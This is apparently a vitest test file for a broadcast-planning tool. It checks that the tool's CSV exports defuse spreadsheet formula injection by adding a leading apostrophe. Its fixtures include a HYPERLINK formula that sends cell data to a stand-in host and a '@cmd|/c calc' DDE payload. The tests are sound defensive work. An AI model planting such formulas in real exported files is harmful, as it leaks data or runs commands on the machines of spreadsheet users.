import { join } from 'node:path';
import { DateTime } from 'luxon';
import { describe, expect, it } from 'vitest';
import { auditPlan } from '../../src/audit/audit-plan.js';
import { renderAuditCsv } from '../../src/audit/render-text.js';
import { rundownCsv } from '../../src/broadcast/export-text.js';
import { parsePeriod } from '../../src/calendar/period.js';
import { loadProject } from '../../src/config/project.js';
import { csvCell } from '../../src/text/csv.js';
import { syntheticYear } from '../audit/synthetic-year.js';
import { fixedRundown } from '../broadcast/sample.js';

/** RFC 4180 fields of one CSV line (enough for these rows: no line breaks inside). */
function fields(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
    const raw = m[1] as string;
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
  }
  return out;
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
];

describe('CSV cells', () => {
  it('writes a text a spreadsheet would run as a formula with a leading apostrophe', () => {
    for (const text of FORMULAS) {
      const cell = fields(csvCell(text))[0] as string;
      expect(cell.startsWith("'"), JSON.stringify(text)).toBe(true);
      expect(cell.slice(1)).toBe(text);
    }
  });

  it('leaves ordinary texts and numbers as they are, quoting per RFC 4180', () => {
    expect(csvCell('Cải cách hành chính')).toBe('Cải cách hành chính');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell('Tin số 1 = tốt')).toBe('Tin số 1 = tốt');
  });

  it('neutralises a formula in a rundown title, presenter and notes', () => {
    const rundown = fixedRundown();
    const item = rundown.segments[0]?.items[0];
    if (!item) throw new Error('sample');
    item.title = FORMULAS[0] as string;
    item.presenter = '@cmd|/c calc';
    item.notes = '=1+1';
    const csv = rundownCsv(rundown);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const row = csv
      .slice(1)
      .split('\r\n')
      .find((l) => l.includes('HYPERLINK')) as string;
    const cells = fields(row);
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells).toContain("'@cmd|/c calc");
    expect(cells).toContain("'=1+1");
    expect(cells.some((c) => /^[=+@]/.test(c))).toBe(false);
  });

  it('neutralises a formula in a plan task title of the audit CSV', async () => {
    const project = await loadProject({ root: join(import.meta.dirname, '../..') });
    const channels = project.channels.map((c) => c.value);
    const plan = project.plans.find((p) => p.value.id === 'bnv-2024')?.value;
    if (!plan) throw new Error('bnv-2024');
    const hostile = { ...plan, tasks: plan.tasks.map((t) => ({ ...t, title: `=${t.title}` })) };
    const result = auditPlan({
      plan: hostile,
      channels,
      entries: syntheticYear(plan, channels, 2024),
      period: parsePeriod('2024-03', plan.timeZone),
      now: DateTime.fromISO('2024-03-20T12:00', { zone: plan.timeZone }),
    });
    const lines = renderAuditCsv(result, 'vi').slice(1).trimEnd().split('\r\n').slice(1);
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      const cells = fields(line);
      expect(cells.some((c) => c.startsWith("'="))).toBe(true);
      expect(cells.some((c) => /^[=+@]/.test(c))).toBe(false);
    }
  });
});
